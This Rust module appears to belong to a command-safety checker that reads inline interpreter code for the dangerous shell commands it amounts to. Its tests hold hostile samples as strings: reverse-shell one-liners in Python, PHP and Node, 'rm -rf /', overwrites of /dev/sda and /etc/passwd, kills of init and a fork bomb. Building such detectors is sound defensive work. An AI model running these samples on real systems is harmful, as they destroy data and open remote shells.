//! The command lines inside an interpreter's inline code (`python3 -c`, `perl -e`, `ruby -e`,
//! `node -e`, `php -r`, `lua -e`, an awk program): every quoted string, every list of quoted
//! words (`subprocess.run(["rm", "-rf", "/"])`, perl's `system("rm", "-rf", "/")`), a path
//! given to a deleting call (`shutil.rmtree("/")` is `rm -rf /`, `os.remove(P)` is `rm P`)
//! and a file opened for writing (`open("/dev/sda", "w")`, perl's `">/dev/sda"`) are each
//! read as a line the code may run. The code itself cannot be judged (it stays high); a line
//! found in it that is forbidden makes it forbidden. Code that forks in a loop is a fork bomb.

/// A quoted string in code: its text, where its opening quote stands and where the code after
/// its closing quote starts.
struct Literal {
    text: String,
    start: usize,
    end: usize,
}

/// Calls that delete a whole tree, and calls that delete one file.
const TREE_DELETERS: &[&str] = &[
    "rmtree",
    "rm_rf",
    "rm_r",
    "remove_tree",
    "rmSync",
    "rmdirSync",
    "rimraf",
    "removedirs",
    "remove_entry_secure",
    "remove_dir",
    "rm",
];
const FILE_DELETERS: &[&str] = &[
    "remove",
    "unlink",
    "unlinkSync",
    "delete",
    "rmdir",
    "truncate",
    "shred",
];

/// Calls that write the file they name first (`File.write`, `file_put_contents`).
const WRITERS: &[&str] = &[
    "write",
    "writeFileSync",
    "appendFileSync",
    "file_put_contents",
    "write_file",
    "spurt",
    "binwrite",
];

/// Calls given a source and a target path, as the program of the same effect: moving
/// (`os.rename`, `os.replace`, `shutil.move`, `File.rename`, `renameSync`), copying
/// (`shutil.copy`, `copyFileSync`, `FileUtils.cp`, php's `copy`) and linking (`os.symlink`,
/// `symlinkSync`, `File.symlink`, `os.link`).
const TWO_PATH_CALLS: &[(&str, &str)] = &[
    ("rename", "mv"),
    ("renames", "mv"),
    ("replace", "mv"),
    ("move", "mv"),
    ("mv", "mv"),
    ("renameSync", "mv"),
    ("copy", "cp"),
    ("copy2", "cp"),
    ("copyfile", "cp"),
    ("copy_file", "cp"),
    ("copyFileSync", "cp"),
    ("cp", "cp"),
    ("copytree", "cp -r"),
    ("symlink", "ln -sf"),
    ("symlinkSync", "ln -sf"),
    ("symlink_to", "ln -sf"),
    ("link", "ln -f"),
    ("linkSync", "ln -f"),
];

/// Calls that change a file's mode, and calls that change its owner (`os.chmod`, perl's
/// `chmod LIST`, `File.chmod`, `fs.chmodSync`, `FileUtils.chmod_R`, `os.chown`, `shutil.chown`).
const MODE_CALLS: &[&str] = &[
    "chmod",
    "lchmod",
    "fchmodat",
    "chmodSync",
    "lchmodSync",
    "chmod_R",
];
const OWNER_CALLS: &[&str] = &[
    "chown",
    "lchown",
    "fchownat",
    "chownSync",
    "lchownSync",
    "chown_R",
];

/// The lines the inline `code` may run or amounts to, as far as its strings show them.
pub fn embedded_lines(code: &str) -> Vec<String> {
    embedded_lines_at(code, 0)
}

fn embedded_lines_at(code: &str, depth: usize) -> Vec<String> {
    let found = literals(code);
    let mut lines: Vec<String> = found.iter().map(|l| l.text.clone()).collect();
    // Quoted words joined by `+`, `.`, `..` or nothing (`"r" + "m -rf /"`): one string.
    let mut glued = String::new();
    for (index, literal) in found.iter().enumerate() {
        let joined_to_last = index > 0
            && code[found[index - 1].end..literal.start]
                .chars()
                .all(|c| matches!(c, '+' | '.') || c.is_whitespace());
        if !joined_to_last && !glued.is_empty() {
            lines.push(std::mem::take(&mut glued));
        }
        glued.push_str(&literal.text);
    }
    lines.push(glued);
    // A string that is code itself (`exec('os.system("rm -rf /")')`, `eval "…"`).
    if depth < 2 {
        for literal in &found {
            if literal.text.contains(['"', '\'', '`']) {
                lines.extend(embedded_lines_at(&literal.text, depth + 1));
            }
        }
    }
    lines.extend(killed_processes(code));
    // Runs of quoted words separated only by commas: one argument vector.
    for run in argument_runs(code, &found) {
        push_run(&mut lines, &run);
    }
    for (index, literal) in found.iter().enumerate() {
        let called = called_name(&code[..literal.start]);
        if TREE_DELETERS.contains(&called.as_str()) {
            lines.push(format!("rm -rf {}", quoted(&literal.text)));
        } else if FILE_DELETERS.contains(&called.as_str()) {
            lines.push(format!("rm -f {}", quoted(&literal.text)));
        }
        // `Path("/etc/passwd").unlink()`, `.write_text(…)`: the method after the path.
        let after = code[literal.end..].trim_start_matches([')', ' ']);
        if after.starts_with(".unlink") || after.starts_with(".rmdir") {
            lines.push(format!("rm -f {}", quoted(&literal.text)));
        }
        if after.starts_with(".write_") || after.starts_with(".open(\"w") {
            lines.push(format!(": > {}", quoted(&literal.text)));
        }
        if WRITERS.contains(&called.as_str()) {
            lines.push(format!(": > {}", quoted(&literal.text)));
        }
        // `open(PATH, "w")`, `File.open(PATH, "w")`, `fopen(PATH, "w")`: written.
        if called.ends_with("open") {
            let mode_writes = found.get(index + 1).is_some_and(|mode| {
                code[literal.end..mode.start]
                    .chars()
                    .all(|c| c == ',' || c.is_whitespace())
                    && mode.text.contains(['w', 'a', '+'])
            });
            if mode_writes {
                lines.push(format!(": > {}", quoted(&literal.text)));
            }
        }
        // perl's two-argument open: `">/dev/sda"`, `"+</dev/sda"`, `">>/etc/passwd"`.
        let written = literal
            .text
            .strip_prefix("+<")
            .or_else(|| literal.text.strip_prefix('>'))
            .map(|rest| rest.trim_start_matches('>').trim());
        if let Some(path) = written
            && path.starts_with('/')
        {
            lines.push(format!(": > {}", quoted(path)));
        }
    }
    let texts: Vec<String> = found.iter().map(|l| l.text.clone()).collect();
    lines.extend(crate::listed_files::destroyed_listings(code, &texts));
    lines.extend(two_path_calls(code, &found));
    lines.extend(mode_and_owner_changes(code, &found));
    lines.extend(network_shell(code, &found));
    // A wildcard given to a glob call (`glob.glob("*")`, perl's `glob "*"`) is the names it
    // lists, judged above as the listing's files, not a command whose program a file may be.
    let glob_patterns: Vec<&str> = found
        .iter()
        .filter(|l| {
            l.text.contains(['*', '?'])
                && !l.text.contains(char::is_whitespace)
                && matches!(
                    called_name(&code[..l.start]).as_str(),
                    "glob" | "iglob" | "rglob"
                )
        })
        .map(|l| l.text.as_str())
        .collect();
    lines.retain(|line| !line.trim().is_empty() && !glob_patterns.contains(&line.as_str()));
    lines.dedup();
    lines
}

/// `os.rename("/etc/passwd", "/tmp/p")` as `mv /etc/passwd /tmp/p`, and the other calls of
/// [`TWO_PATH_CALLS`] given two quoted paths.
fn two_path_calls(code: &str, found: &[Literal]) -> Vec<String> {
    let mut lines = Vec::new();
    for pair in found.windows(2) {
        let called = called_name(&code[..pair[0].start]);
        let Some((_, program)) = TWO_PATH_CALLS.iter().find(|(name, _)| *name == called) else {
            continue;
        };
        let separated = code[pair[0].end..pair[1].start]
            .chars()
            .all(|c| c == ',' || c.is_whitespace());
        if separated {
            lines.push(format!(
                "{program} {} {}",
                quoted(&pair[0].text),
                quoted(&pair[1].text)
            ));
        }
    }
    lines
}

/// A mode or owner change the code makes, as `chmod MODE PATH` or `chown nobody PATH` for every
/// absolute path it quotes. The mode is each number (octal with a leading 0, decimal without),
/// `stat` constant or quoted mode the code writes (`inline_modes.rs`), and `777` (write for
/// everyone) where it writes none it can be read from; `S_ISUID` adds the set-user-ID bit. An
/// owner other than root (a number but 0 or -1, a name but root and shadow) is any user's:
/// judged as `nobody`. `chmod_R` and `chown_R` are recursive (`chmod -R`, `chown -R`, root's
/// too). The extended attributes it sets are `setfattr` lines.
fn mode_and_owner_changes(code: &str, found: &[Literal]) -> Vec<String> {
    let calls = |names: &[&str]| {
        names.iter().any(|name| {
            code.match_indices(name).any(|(at, _)| {
                let before = code[..at].chars().next_back();
                let after = code[at + name.len()..].chars().next();
                !before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
                    && !after.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
            })
        })
    };
    let paths: Vec<String> = found
        .iter()
        .filter(|l| l.text.starts_with('/'))
        .map(|l| quoted(&l.text))
        .collect();
    let texts: Vec<String> = found.iter().map(|l| l.text.clone()).collect();
    let mut lines = crate::inline_modes::attributes_set(code, &texts, &paths);
    if paths.is_empty() {
        return lines;
    }
    let numbers = numbers(code);
    // `FileUtils.chmod_R`, `chown_R`: recursive, as `chmod -R`, `chown -R`.
    let recursive = |name: &str| if calls(&[name]) { " -R" } else { "" };
    if calls(MODE_CALLS) {
        let mut modes = crate::inline_modes::modes(code, &numbers, &texts);
        if modes.is_empty() {
            modes.push("777".to_owned());
        }
        if code.contains("ISUID") {
            modes.push("4755".to_owned());
        }
        let recursive = recursive("chmod_R");
        for mode in &modes {
            for path in &paths {
                lines.push(format!("chmod{recursive} {mode} {path}"));
            }
        }
    }
    if calls(OWNER_CALLS) {
        let other_number = numbers
            .iter()
            .any(|n| !matches!(n.as_str(), "0" | "-1" | "00"));
        let other_name = found
            .iter()
            .any(|l| !l.text.starts_with('/') && !matches!(l.text.as_str(), "root" | "shadow"));
        let recursive = recursive("chown_R");
        if other_number || other_name || !recursive.is_empty() {
            let owner = if other_number || other_name {
                "nobody"
            } else {
                "root"
            };
            for path in &paths {
                lines.push(format!("chown{recursive} {owner} {path}"));
            }
        }
    }
    lines
}

/// Names in code that opens a network connection: python's, perl's and lua's `socket`, ruby's
/// `TCPSocket`, php's `fsockopen`, node's `net.connect` and `net.Socket`, bash's `/dev/tcp/`.
const CONNECTS: &[&str] = &[
    "socket",
    "fsockopen",
    "net.connect",
    "require(\"net\")",
    "require('net')",
    "createconnection",
    "/dev/tcp/",
    "/dev/udp/",
];

/// Code that connects to the network and starts a shell reading its input (`s.connect(…);
/// os.dup2(…); subprocess.call(["/bin/sh", "-i"])`, perl's `exec("/bin/sh -i")`, php's
/// `exec("/bin/sh -i <&3 >&3")`): the shell's input and output are the connection, a shell
/// opened to the network, read as `nc -e SHELL` is.
fn network_shell(code: &str, found: &[Literal]) -> Vec<String> {
    let lower = code.to_ascii_lowercase();
    if !CONNECTS.iter().any(|name| lower.contains(name)) {
        return Vec::new();
    }
    argument_runs(code, found)
        .iter()
        .filter_map(|run| {
            let (first, rest) = run.split_first()?;
            let words: Vec<String> = shlex::split(&first.text)?
                .into_iter()
                .chain(rest.iter().map(|l| l.text.clone()))
                .take_while(|w| !w.contains(['<', '>', '&', '|', ';']))
                .collect();
            let (program, args) = words.split_first()?;
            let shell = crate::normalize::base_name(program);
            (crate::normalize::is_shell(&shell)
                && crate::normalize::stdin_script_parameters(args).is_some())
            .then(|| format!("nc -e {} connected-socket 0", quoted(program)))
        })
        .collect()
}

/// The numbers written in the code outside its strings (`0o777`, `04755`, `65534`, `-1`).
fn numbers(code: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut outside = String::new();
    let mut quote: Option<char> = None;
    for c in code.chars() {
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) => {}
            None if matches!(c, '\'' | '"' | '`') => quote = Some(c),
            None => outside.push(c),
        }
    }
    let mut word = String::new();
    let mut previous = ' ';
    for c in outside.chars().chain(std::iter::once(' ')) {
        if c.is_ascii_alphanumeric() || c == '_' {
            if word.is_empty() && previous == '-' {
                word.push('-');
            }
            word.push(c);
        } else {
            let digits = word.trim_start_matches('-');
            if digits.starts_with(|d: char| d.is_ascii_digit())
                && digits
                    .chars()
                    .all(|d| d.is_ascii_digit() || d == 'o' || d == 'O')
            {
                out.push(word.clone());
            }
            word.clear();
        }
        previous = c;
    }
    out
}

/// Whether the code forks in a loop (`fork while 1`, `while 1: os.fork()`, `loop { fork }`).
pub fn forks_in_a_loop(code: &str) -> bool {
    let lower = code.to_ascii_lowercase();
    lower.contains("fork")
        && ["while", "loop", "for ", "for(", "until", "repeat", "iter("]
            .iter()
            .any(|word| lower.contains(word))
}

/// perl's and ruby's `-i` (`-pi`, `-i.bak`, `-pie`): every file operand after the code is
/// rewritten, each read as the line `: > FILE` (a write of that file). `words` are the words
/// after the interpreter.
pub fn edited_in_place(words: &[String]) -> Vec<String> {
    let mut in_place = false;
    let mut files = Vec::new();
    let mut code_next = false;
    let mut options_done = false;
    for word in words {
        if code_next {
            code_next = false;
            continue;
        }
        if !options_done && word == "--" {
            options_done = true;
            continue;
        }
        if !options_done && word.starts_with('-') && word.len() > 1 && !word.starts_with("--") {
            let flags = &word[1..];
            // `-i` takes the rest of its word as a backup suffix; flags before it cluster.
            let before_i = flags.split('i').next().unwrap_or(flags);
            in_place |= flags.contains('i') && before_i.chars().all(|c| "pnlaws".contains(c));
            code_next = before_i.ends_with(['e', 'E']) || flags.ends_with(['e', 'E']);
            continue;
        }
        options_done = true;
        files.push(word);
    }
    if !in_place {
        return Vec::new();
    }
    files
        .iter()
        .map(|file| format!(": > {}", quoted(file)))
        .collect()
}

/// `os.kill(1, 9)`, `process.kill(-1)`, `posix_kill(1, 9)` (the process first), perl's
/// `kill 9, 1` and ruby's `Process.kill(9, 1)` (the signal first): a signal to init or to
/// every process, as the line `kill -KILL PID`.
fn killed_processes(code: &str) -> Vec<String> {
    let mut lines = Vec::new();
    let mut from = 0;
    while let Some(at) = code[from..].find("kill").map(|i| i + from) {
        from = at + 4;
        let before = &code[..at];
        if before.ends_with(|c: char| c.is_ascii_alphanumeric()) && !before.ends_with("posix_") {
            continue;
        }
        let rest = code[from..].trim_start();
        let Some(rest) = rest.strip_prefix('(').or(Some(rest)) else {
            continue;
        };
        let arguments: Vec<&str> = rest
            .split([')', ';', '\n', '}'])
            .next()
            .unwrap_or_default()
            .split(',')
            .map(|a| a.trim().trim_matches(['"', '\'']))
            .collect();
        let signal_first = before.ends_with("Process.") || !before.ends_with('.');
        let signal_first = signal_first && !before.ends_with("posix_");
        let pids: &[&str] = if signal_first {
            arguments.get(1..).unwrap_or_default()
        } else {
            arguments.get(..1).unwrap_or_default()
        };
        for pid in pids {
            if matches!(*pid, "1" | "-1") {
                lines.push(format!("kill -KILL {pid}"));
            }
        }
    }
    lines
}

/// The literals in runs of quoted words separated only by commas (`["/bin/sh", "-i"]`, `"rm",
/// "-rf", "/"`): each run one argument vector, a literal alone a run of its own.
fn argument_runs<'a>(code: &str, found: &'a [Literal]) -> Vec<Vec<&'a Literal>> {
    let mut runs: Vec<Vec<&Literal>> = Vec::new();
    for literal in found {
        let joined_to_last = runs.last().and_then(|run| run.last()).is_some_and(|last| {
            code[last.end..literal.start]
                .chars()
                .all(|c| c == ',' || c.is_whitespace())
        });
        match runs.last_mut() {
            Some(run) if joined_to_last => run.push(literal),
            _ => runs.push(vec![literal]),
        }
    }
    runs
}

fn push_run(lines: &mut Vec<String>, run: &[&Literal]) {
    if run.len() > 1 {
        let words: Vec<&str> = run.iter().map(|l| l.text.as_str()).collect();
        lines.push(shlex::try_join(words.iter().copied()).unwrap_or_else(|_| words.join(" ")));
    }
}

/// The name called just before `(` or a blank (`shutil.rmtree(`, `FileUtils.rm_rf `,
/// `unlink `): the last identifier, without its module.
fn called_name(before: &str) -> String {
    let trimmed = before.trim_end();
    let trimmed = trimmed.strip_suffix('(').unwrap_or(trimmed).trim_end();
    trimmed
        .chars()
        .rev()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
        .collect::<String>()
        .chars()
        .rev()
        .collect()
}

pub(crate) fn quoted(text: &str) -> String {
    shlex::try_quote(text).map_or_else(|_| text.to_owned(), |q| q.into_owned())
}

/// The strings quoted with `'`, `"` or a backtick, backslash escapes read, and perl's and
/// ruby's command quotes (`qx(…)`, `qx{…}`, `%x(…)`).
fn literals(code: &str) -> Vec<Literal> {
    let mut out = command_quotes(code);
    let mut chars = code.char_indices().peekable();
    while let Some((start, c)) = chars.next() {
        if !matches!(c, '\'' | '"' | '`') {
            continue;
        }
        let mut text = String::new();
        let mut end = None;
        while let Some((at, d)) = chars.next() {
            if d == '\\' {
                if let Some((_, escaped)) = chars.next() {
                    text.push(match escaped {
                        'n' => '\n',
                        't' => '\t',
                        other => other,
                    });
                }
            } else if d == c {
                end = Some(at + d.len_utf8());
                break;
            } else {
                text.push(d);
            }
        }
        let Some(end) = end else { break };
        out.push(Literal { text, start, end });
    }
    out
}

/// perl's `qx` and ruby's `%x` with a bracketing delimiter: the text up to its closing one.
fn command_quotes(code: &str) -> Vec<Literal> {
    let mut out = Vec::new();
    for opener in ["qx", "qw", "%x"] {
        let mut from = 0;
        while let Some(at) = code[from..].find(opener).map(|i| i + from) {
            from = at + opener.len();
            let rest = &code[from..];
            let Some(open) = rest.chars().next() else {
                break;
            };
            let close = match open {
                '(' => ')',
                '{' => '}',
                '[' => ']',
                '<' => '>',
                '/' | '|' | '!' | '#' => open,
                _ => continue,
            };
            if let Some(end) = rest[1..].find(close) {
                out.push(Literal {
                    text: rest[1..1 + end].to_owned(),
                    start: at,
                    end: from + 1 + end + 1,
                });
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_shell_started_by_code_that_connects_is_opened_to_the_network() {
        let opened = |code: &str| {
            embedded_lines(code)
                .iter()
                .any(|line| line.ends_with("connected-socket 0"))
        };
        assert!(opened(
            r#"import socket,subprocess;s=socket.socket();s.connect(("h",1));subprocess.call(["/bin/sh","-i"])"#
        ));
        assert!(opened(
            r#"$s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3 2>&3");"#
        ));
        assert!(opened(
            r#"var n=require("net"),c=require("child_process");var p=c.spawn("/bin/sh",[]);n.connect(1,"h")"#
        ));
        assert!(!opened(
            r#"import socket,subprocess; subprocess.run(["bash","-c","uptime"])"#
        ));
        assert!(!opened(
            r#"import subprocess; subprocess.call(["/bin/sh"])"#
        ));
    }

    #[test]
    fn strings_lists_and_deleting_calls_are_lines() {
        let lines = embedded_lines(r#"import subprocess; subprocess.run(["rm", "-rf", "/"])"#);
        assert!(lines.contains(&"rm -rf /".to_owned()), "{lines:?}");
        let lines = embedded_lines(r#"import shutil; shutil.rmtree("/etc")"#);
        assert!(lines.contains(&"rm -rf /etc".to_owned()), "{lines:?}");
        let lines = embedded_lines(r#"open("/dev/sda", "wb").write(b"x")"#);
        assert!(lines.contains(&": > /dev/sda".to_owned()), "{lines:?}");
        let lines = embedded_lines(r#"open(F, ">/etc/passwd")"#);
        assert!(lines.contains(&": > /etc/passwd".to_owned()), "{lines:?}");
        assert!(embedded_lines("print(1)").is_empty());
        let lines = embedded_lines(r#"import os; os.system("r" + "m -rf /")"#);
        assert!(lines.contains(&"rm -rf /".to_owned()), "{lines:?}");
        let lines = embedded_lines(r#"exec('import os; os.system("rm -rf /")')"#);
        assert!(lines.contains(&"rm -rf /".to_owned()), "{lines:?}");
        let lines = embedded_lines(r#"import pathlib; pathlib.Path("/etc/passwd").unlink()"#);
        assert!(lines.contains(&"rm -f /etc/passwd".to_owned()), "{lines:?}");
    }

    #[test]
    fn signals_to_init_or_every_process_are_kills() {
        assert_eq!(embedded_lines("import os; os.kill(1, 9)"), ["kill -KILL 1"]);
        assert_eq!(embedded_lines("kill 9, -1"), ["kill -KILL -1"]);
        assert_eq!(embedded_lines("Process.kill(9, 1)"), ["kill -KILL 1"]);
        assert!(embedded_lines("import os; os.kill(1234, 1)").is_empty());
        assert!(embedded_lines("skill(1)").is_empty());
    }

    #[test]
    fn forking_in_a_loop_is_seen() {
        assert!(forks_in_a_loop("fork while 1"));
        assert!(forks_in_a_loop("import os\nwhile True: os.fork()"));
        assert!(!forks_in_a_loop("import os; os.fork()"));
    }

    #[test]
    fn in_place_edits_write_their_files() {
        let words = |line: &str| -> Vec<String> { line.split(' ').map(str::to_owned).collect() };
        assert_eq!(
            edited_in_place(&words("-pi -e s/a/b/ /etc/passwd")),
            [": > /etc/passwd"]
        );
        assert_eq!(
            edited_in_place(&words("-i.bak -pe s/a/b/ /etc/shadow")),
            [": > /etc/shadow"]
        );
        assert!(edited_in_place(&words("-ne print /etc/hosts")).is_empty());
    }
}
